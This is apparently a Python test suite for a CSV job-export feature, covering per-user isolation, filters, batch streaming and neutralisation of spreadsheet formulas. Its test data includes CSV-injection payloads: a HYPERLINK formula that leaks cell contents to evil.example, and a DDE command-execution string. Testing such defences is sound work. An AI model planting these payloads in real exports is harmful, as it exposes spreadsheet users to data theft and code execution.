"""jobs_export end to end: only the caller's jobs, filters, many rows, and no spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import uuid
from typing import Any

import httpx

from tests.utils import db
from tests.utils.stack import Stack, submit, wait_for
from worker.tasks.jobs_export import BATCH_ROWS, COLUMNS, FORMULA_TRIGGERS

DANGEROUS_NAMES = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


async def export(client: httpx.AsyncClient, payload: dict[str, Any] | None = None) -> list[dict[str, str]]:
    """Run a jobs_export to completion and return its rows (checking the file's framing on the way)."""
    job = await submit(client, "jobs_export", payload or {})
    done = await wait_for(client, job["id"], {"completed", "failed"}, timeout=30)
    assert done["status"] == "completed", done
    assert done["result_file"]["filename"] == f"jobs-export-{job['id']}.csv"
    assert done["result_file"]["content_type"] == "text/csv; charset=utf-8"
    body = (await client.get(done["result_file"]["url"])).content.decode()
    assert body.startswith('"' + '","'.join(COLUMNS) + '"\r\n')  # every cell quoted
    rows = list(csv.reader(io.StringIO(body, newline="")))
    assert tuple(rows[0]) == COLUMNS
    assert done["result"] == {"rows": len(rows) - 1}
    return [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]


async def test_formula_cells_are_neutralised(client: httpx.AsyncClient) -> None:
    names = [*DANGEROUS_NAMES, "quarterly report", "a,=b", 'say "hi"']
    ids = {}
    for name in names:
        job = await submit(client, "square_sum", {"data": [1]}, name=name)
        ids[job["id"]] = name
    rows = await export(client)
    by_id = {row["id"]: row for row in rows}
    for job_id, name in ids.items():
        expected = "'" + name if name in DANGEROUS_NAMES else name
        assert by_id[job_id]["name"] == expected
    for row in rows:
        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row.values()), row


async def test_export_holds_only_the_callers_jobs(client: httpx.AsyncClient, stack: Stack) -> None:
    async with await stack.client() as other:
        theirs = {(await submit(other, "square_sum", {"data": [2]}, name="theirs"))["id"] for _ in range(3)}
        mine = {(await submit(client, "cube_sum", {"data": [i]}))["id"] for i in range(4)}
        rows = await export(client)
        listed = {job["id"] for job in (await client.get("/jobs", params={"limit": 100})).json()["items"]}
        exported = {row["id"] for row in rows}
        assert exported == listed  # everything the caller owns (the export job included), nothing else
        assert mine <= exported and not theirs & exported
        assert {row["id"] for row in await export(other)} >= theirs


async def test_export_filters_by_status_and_type(client: httpx.AsyncClient) -> None:
    done = [await submit(client, "square_sum", {"data": [i]}) for i in range(3)]
    for job in done:
        await wait_for(client, job["id"], {"completed"})
    waiting = await submit(client, "sleep", {"seconds": 1}, scheduled_at="2999-01-01T00:00:00Z")
    rows = await export(client, {"status": ["completed"], "type": ["square_sum"]})
    assert {row["id"] for row in rows} == {job["id"] for job in done}
    assert all(row["status"] == "completed" and row["type"] == "square_sum" for row in rows)
    pending = await export(client, {"status": ["pending"]})
    assert [row["id"] for row in pending] == [waiting["id"]]
    assert (await client.post(f"/jobs/{waiting['id']}/cancel")).status_code == 202


async def test_export_streams_many_rows_in_creation_order(client: httpx.AsyncClient, stack: Stack) -> None:
    seed = await submit(client, "square_sum", {"data": [1]})
    bulk = BATCH_ROWS * 2 + 500  # several server-side cursor batches, the last one partial
    await db.execute(
        stack.settings,
        """
        INSERT INTO jobs (id, owner_id, type, name, payload, status, finished_at, created_at)
        SELECT gen_random_uuid(), owner_id, 'square_sum', '=bulk ' || g, '{"data": [1]}',
               'completed', now(), now() + make_interval(secs => g)
        FROM jobs, generate_series(1, $1::int) AS g WHERE jobs.id = $2
        """,
        bulk,
        uuid.UUID(seed["id"]),
    )
    rows = await export(client)
    assert len(rows) == bulk + 2  # the bulk rows, the seed job and the export job
    names = [row["name"] for row in rows if row["name"].startswith("'=bulk")]
    assert names == [f"'=bulk {g}" for g in range(1, bulk + 1)]  # oldest first
    assert rows == sorted(rows, key=lambda r: (r["created_at"], r["id"]))
